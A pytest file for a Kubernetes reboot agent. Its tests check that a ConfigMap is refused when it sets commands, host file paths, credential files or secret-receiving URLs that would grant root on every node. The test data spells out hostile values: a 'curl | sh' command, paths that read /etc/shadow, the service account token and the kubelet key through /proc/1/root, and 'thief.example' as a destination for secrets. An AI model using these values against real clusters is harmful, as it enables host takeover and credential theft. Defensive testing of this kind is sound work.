"""Tests that a ConfigMap cannot contain settings that would give its editor root on every host."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from careen.settings import kinds, last_good
from careen.settings.config_map_limits import POWERS, Power
from careen.settings.live import Invocation, LiveSettings, SeenConfigMap
from careen.settings.sources import BadSettings, resolve
from careen.settings.tree import DEFAULTS, SETTINGS, Settings, flag

NAME = "careen/careen"
# The effect of each setting if it were accepted.
HARM: dict[str, str] = {
    "reboot_probes": "zypper",  # runs the host's program of that name
    "reboot_proof": "soft-reboots",
    "reboot_sentinel_command": "sh -c 'curl https://x | sh'",
    "reboot_command": "/bin/sh -c id",
    "host_exec": "direct",
    "reboot_signal": "38",  # SIGRTMIN+4: power off
    "host_root": "/proc/1/root",
    "host_lock_dir": "/etc/nologin",
    "boot_id_file": "/proc/1/root/etc/shadow",
    "prometheus_token_file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "prometheus_password_file": "/proc/1/root/etc/shadow",
    "prometheus_ca_file": "/tmp/mine",
    "prometheus_client_certificate_file": "/proc/1/root/var/lib/kubelet/pki/kubelet-client-current.pem",
    "prometheus_client_key_file": "/proc/1/root/etc/shadow",
    "alertmanager_token_file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "alertmanager_ca_file": "/tmp/mine",
    "scheduler_config": "/proc/1/root/etc/shadow",
    "notify_url_file": "/proc/1/root/etc/shadow",
}
# Settings that some of the tested settings require.
BESIDE = {
    "prometheus_password_file": {"prometheus_username": ("x",)},
    "prometheus_client_key_file": {"prometheus_client_certificate_file": ("/x",)},
}


def flags_for(name: str, **more: str) -> dict[str, tuple[str, ...]]:
    server = name.partition("_")[0]
    url = {f"{server}_url": ("https://p",)} if server in ("prometheus", "alertmanager") else {}
    return {"node_id": ("n1",), **url, **BESIDE.get(name, {}), **{key: (value,) for key, value in more.items()}}


def settle(config: dict[str, Any], flags: dict[str, tuple[str, ...]], environment: dict[str, str] | None = None) -> Any:
    return resolve(flags=flags, environment=environment or {}, config_map=config, config_map_name=NAME)


def written(settings: Settings, name: str) -> str:
    return SETTINGS[name].kind.shown(getattr(settings, name))


def test_the_settings_forbidden_in_the_config_map_are_exactly_those_listed_here() -> None:
    assert POWERS.keys() == HARM.keys()
    assert {name for name, power in POWERS.items() if power is Power.COMMANDS} == {
        "reboot_sentinel_command",
        "reboot_command",
        "reboot_probes",
        "reboot_proof",
        "host_exec",
        "reboot_signal",
    }


def test_a_new_setting_for_a_command_or_path_is_forbidden_in_the_config_map() -> None:
    dangerous = (kinds.COMMAND, kinds.PATH, kinds.PATHS, kinds.SCHEDULER_CONFIG)
    free = {
        name
        for name, setting in SETTINGS.items()
        if setting.kind in dangerous and not setting.bootstrap and name not in POWERS
    }
    assert free == {"reboot_sentinel"}


@pytest.mark.parametrize("name", HARM)
def test_the_config_map_may_not_contain_settings_that_give_root(name: str) -> None:
    with pytest.raises(BadSettings) as refused:
        settle({flag(name): HARM[name], "concurrency": 2}, flags_for(name))
    (problem,) = refused.value.problems
    assert problem.startswith(
        f"`{flag(name)}` in ConfigMap {NAME}: the setting {flag(name)} is not allowed in the ConfigMap: "
        "the setting decides "
    )
    assert f"set --{flag(name)} or CAREEN_{name.upper()} on the DaemonSet" in problem
    assert problem.endswith(f"or add --{flag(POWERS[name])} to the DaemonSet to allow the setting in the ConfigMap")
    assert HARM[name] not in problem


@pytest.mark.parametrize("name", HARM)
def test_a_flag_or_an_environment_variable_can_allow_a_forbidden_setting_in_the_config_map(name: str) -> None:
    settings = settle({flag(name): HARM[name]}, flags_for(name, **{POWERS[name]: "true"})).settings
    assert written(settings, name) == HARM[name]
    also = settle({flag(name): HARM[name]}, flags_for(name), {f"CAREEN_{POWERS[name].upper()}": "true"}).settings
    assert getattr(also, name) == getattr(settings, name)


@pytest.mark.parametrize("name", HARM)
def test_a_flag_that_allows_one_group_of_forbidden_settings_allows_no_other_group(name: str) -> None:
    (other,) = set(Power) - {POWERS[name]}
    with pytest.raises(BadSettings, match="is not allowed in the ConfigMap"):
        settle({flag(name): HARM[name]}, flags_for(name, **{other: "true"}))


@pytest.mark.parametrize("name", HARM)
def test_flags_and_environment_may_contain_every_setting(name: str) -> None:
    assert written(settle({}, {**flags_for(name), name: (HARM[name],)}).settings, name) == HARM[name]
    variable = {f"CAREEN_{name.upper()}": HARM[name]}
    assert written(settle({}, flags_for(name), variable).settings, name) == HARM[name]


def test_a_forbidden_config_map_setting_is_refused_even_if_a_flag_overrides_it() -> None:
    with pytest.raises(BadSettings, match="`reboot-command` in ConfigMap"):
        settle({"reboot-command": "x"}, flags_for("", reboot_command="/sbin/reboot"))


@pytest.mark.parametrize("power", Power)
def test_the_config_map_cannot_set_the_flags_that_lift_its_limits(power: Power) -> None:
    with pytest.raises(BadSettings, match="give it as a flag or in the environment"):
        settle({flag(power): True, "reboot-command": "x"}, flags_for(""))


def test_the_scheduler_configuration_may_be_in_another_key_of_the_same_config_map() -> None:
    config = {"scheduler-config": "configmap:scheduler.yaml"}
    assert settle(config, flags_for("")).settings.scheduler_config == "configmap:scheduler.yaml"
    assert settle({"scheduler-config": ""}, flags_for("")).settings.scheduler_config == ""


# ---- files that the scheduler's configuration names ----

FILES = ("certFile", "keyFile", "caFile")
SHADOW = "/proc/1/root/etc/shadow"
BY_CONFIG_MAP = ("scheduler-config: configmap:scheduler.yaml", {})


@pytest.mark.parametrize("flags", [{}, {"notify_url": ("logger://",)}])
def test_the_config_map_may_not_contain_an_apprise_url(
    flags: dict[str, tuple[str, ...]],
) -> None:
    url = "workflows://a.logic.azure.com/abc/SECRETWORD?template=/etc/shadow"
    with pytest.raises(BadSettings) as error:
        settle({"notify-url": ["logger://", url]}, flags_for("") | flags)
    (problem,) = error.value.problems
    assert problem.startswith(
        f"`notify-url` in ConfigMap {NAME}: the setting notify-url is not allowed in the ConfigMap: a URL in apprise's "
    )
    assert "SECRET" not in problem
    trusted = flags_for("", config_map_may_name_files="true") | flags
    assert settle({"notify-url": ["logger://", url]}, trusted)


@pytest.mark.parametrize("allowed", [{}, {"config_map_may_name_files": "true", "config_map_may_run_commands": "true"}])
@pytest.mark.parametrize(
    "url",
    [
        "generic+http://10.0.0.1/v1/kv?method=DELETE",
        "generic+http://10.0.0.1/?RequestMethod=put",
        "generic+http://10.0.0.1/?@Authorization=SECRETWORD",
        "generic://10.0.0.1/?template=json&$command=SECRETWORD",
        "generic://10.0.0.1/?template=json&messagekey=script",
        "generic://10.0.0.1/?contenttype=text/html",
        "generic://10.0.0.1/?action=stop",
        "generic://10.0.0.1/?%6dethod=DELETE",
        "GENERIC://10.0.0.1/?method=DELETE",
        "generic://me:SECRETWORD@10.0.0.1/",
        '"generic://10.0.0.1/?method=DELETE"',
        "slack://a/b/c,generic://10.0.0.1/?method=DELETE",
    ],
)
def test_the_config_map_may_not_shape_the_requests_of_every_agent(url: str, allowed: dict[str, str]) -> None:
    with pytest.raises(BadSettings) as error:
        settle({"notify-url": [url]}, flags_for("", **allowed))
    (problem,) = error.value.problems
    assert "notify-url is not allowed in the ConfigMap: a generic URL there may have no login and only" in problem
    assert problem.endswith("set --notify-url or CAREEN_NOTIFY_URL on the DaemonSet")
    assert "SECRET" not in problem


def test_the_config_map_may_contain_a_generic_url_with_a_fixed_request() -> None:
    urls = ["generic+https://h/hook", "generic+http://h/?template=json&disabletls=yes"]
    assert len(settle({"notify-url": urls}, flags_for("")).settings.notify_url) == 2


def test_the_config_map_may_contain_shoutrrr_and_teams_workflow_urls() -> None:
    workflow = "https://a.logic.azure.com/workflows/abc/triggers/manual/paths/invoke?sig=abc"
    assert len(settle({"notify-url": ["logger://", workflow]}, flags_for("")).settings.notify_url) == 2


BY_FLAG = ("", {"scheduler_config": ("configmap:scheduler.yaml",)})


def with_extender(**tls: str) -> str:
    extender = {"urlPrefix": "https://thief.example", "filterVerb": "filter", "tlsConfig": tls}
    return json.dumps(
        {
            "apiVersion": "kubescheduler.config.k8s.io/v1",
            "kind": "KubeSchedulerConfiguration",
            "extenders": [extender],
        }
    )


def started(given: tuple[str, dict[str, tuple[str, ...]]], text: str, **flags: str) -> LiveSettings:
    config, more = given
    return LiveSettings(
        Invocation(flags={**flags_for("", **flags), **more}, environment={}),
        SeenConfigMap(uid="u", data={"config.yaml": config, "scheduler.yaml": text}),
        config_map_name=NAME,
    )


@pytest.mark.parametrize(
    "given", [BY_CONFIG_MAP, BY_FLAG], ids=["scheduler-config in the ConfigMap", "scheduler-config as a flag"]
)
@pytest.mark.parametrize("field", FILES)
def test_a_scheduler_configuration_in_the_config_map_may_not_name_files(
    given: tuple[str, dict[str, tuple[str, ...]]], field: str
) -> None:
    with pytest.raises(BadSettings) as refused:
        started(given, with_extender(**{field: SHADOW}))
    (problem,) = refused.value.problems
    said = f"the field must not name a file: copy the file, as base64, into {field.replace('File', 'Data')}"
    assert f"extenders[0].tlsConfig.{field}: {said}" in problem
    assert problem.endswith(
        "or add --config-map-may-name-files to the DaemonSet, so that the ConfigMap may name files)"
    )
    assert SHADOW not in problem
    trusted = started(given, with_extender(**{field: SHADOW}), config_map_may_name_files="true")
    assert trusted.may_scheduler_config_name_files


@pytest.mark.parametrize(
    "given", [BY_CONFIG_MAP, BY_FLAG], ids=["scheduler-config in the ConfigMap", "scheduler-config as a flag"]
)
def test_a_scheduler_configuration_in_the_config_map_may_contain_certificates(
    given: tuple[str, dict[str, tuple[str, ...]]],
) -> None:
    there = started(given, with_extender(certData="eA==", keyData="eA==", caData="eA=="))
    assert not there.may_scheduler_config_name_files


def test_a_config_map_edit_whose_scheduler_configuration_refers_to_a_file_changes_nothing() -> None:
    there = started(BY_FLAG, with_extender(caData="eA=="))
    before = there.scheduler_config
    (problem,) = there.offer(
        SeenConfigMap(uid="u", data={"config.yaml": "", "scheduler.yaml": with_extender(caFile=SHADOW)})
    )
    assert problem.startswith(
        "--scheduler-config: the key `scheduler.yaml` of the ConfigMap is not a KubeSchedulerConfiguration"
    )
    assert there.scheduler_config == before


@pytest.mark.parametrize("padding", ["#" * 70_000, "x: &x 1\ny: *x\n"], ids=["too long to be checked", "with aliases"])
def test_a_scheduler_configuration_that_the_agent_did_not_check_may_not_refer_to_files(padding: str) -> None:
    there = started(BY_FLAG, f"{with_extender(caFile=SHADOW)}\n{padding}" if padding[0] == "#" else padding)
    assert not there.may_scheduler_config_name_files


def test_a_scheduler_configuration_file_from_a_flag_may_refer_to_files(tmp_path: Path) -> None:
    file = tmp_path / "scheduler.yaml"
    file.write_text(with_extender(caFile="/etc/careen/ca.crt"))
    there = started(("", {"scheduler_config": (str(file),)}), "")
    assert there.may_scheduler_config_name_files


# ---- where secrets are sent ----


def test_the_config_map_may_set_prometheus_url_if_careen_sends_no_credentials_to_prometheus() -> None:
    assert settle({"prometheus-url": "https://p"}, flags_for("")).settings.prometheus_url == "https://p"


@pytest.mark.parametrize(
    "secret",
    [
        {"prometheus_token_file": "/t"},
        {"prometheus_username": "x", "prometheus_password_file": "/p"},
        {"prometheus_client_certificate_file": "/c"},
    ],
)
def test_the_config_map_may_not_choose_where_a_secret_is_sent(secret: dict[str, str]) -> None:
    with pytest.raises(BadSettings) as refused:
        settle({"prometheus-url": "https://thief.example"}, flags_for("", **secret))
    (problem,) = refused.value.problems
    assert problem.startswith(f"`prometheus-url` in ConfigMap {NAME}: the setting prometheus-url is not allowed ")
    assert "to the server in prometheus-url" in problem
    trusted = flags_for("", **secret, config_map_may_name_files="true")
    assert settle({"prometheus-url": "https://other"}, trusted).settings.prometheus_url == "https://other"


def test_careen_refuses_the_url_and_the_token_file_of_a_prometheus_if_a_config_map_sets_both() -> None:
    """careen refuses the token file because a ConfigMap must not name a file with a secret. careen refuses the URL
    because a ConfigMap must not choose the server that gets the secret. Without the token file, the URL is allowed."""
    with pytest.raises(BadSettings) as refused:
        settle({"prometheus-url": "https://thief.example", "prometheus-token-file": "/t"}, flags_for(""))
    assert sorted(problem.split("`")[1] for problem in refused.value.problems) == [
        "prometheus-token-file",
        "prometheus-url",
    ]


# ---- a change while the agent runs, and older settings ----


def test_careen_ignores_the_whole_edit_of_a_config_map_if_it_contains_a_forbidden_setting() -> None:
    """The forbidden setting would run a command as root on the host."""

    def seen(text: str) -> SeenConfigMap:
        return SeenConfigMap(uid="u", data={"config.yaml": text})

    there = LiveSettings(
        Invocation(flags=flags_for(""), environment={}), seen("concurrency: 2"), config_map_name="careen/careen"
    )
    (problem,) = there.offer(seen("concurrency: 3\nreboot-command: /bin/evil"))
    assert "`reboot-command` in ConfigMap careen/careen: the setting reboot-command is not allowed" in problem
    assert (there.settings.reboot_command, there.policy.concurrency) == ("/bin/systemctl reboot", 2)
    assert "evil" not in there.policy.kept_settings


def annotation(**settings: str) -> str:
    return json.dumps({"version": 1, "settings": {flag(name): [text] for name, text in settings.items()}})


def restored(text: str, flags: dict[str, tuple[str, ...]]) -> last_good.LastGood:
    return last_good.restore(text, "why", flags=flags, environment={}, name=NAME)


@pytest.mark.parametrize("name", HARM)
def test_settings_stored_on_the_node_have_the_same_limits_as_the_config_map(name: str) -> None:
    text = annotation(**{name: HARM[name], "concurrency": "3"})
    back = restored(text, flags_for(name))
    assert getattr(back.resolved.settings, name) == DEFAULTS[name]
    assert back.resolved.settings.concurrency == 3, "the settings that are not forbidden are restored"
    assert not back.is_whole, "an agent with incomplete settings starts no reboot"
    trusted = restored(text, flags_for(name, **{POWERS[name]: "true"}))
    assert written(trusted.resolved.settings, name) == HARM[name]
    assert trusted.is_whole


def test_settings_stored_on_the_node_may_not_choose_where_a_secret_is_sent() -> None:
    flags = flags_for("", prometheus_token_file="/t", prometheus_url="https://own")
    back = restored(annotation(prometheus_url="https://thief.example"), flags)
    assert (back.resolved.settings.prometheus_url, back.is_whole) == ("https://own", False)
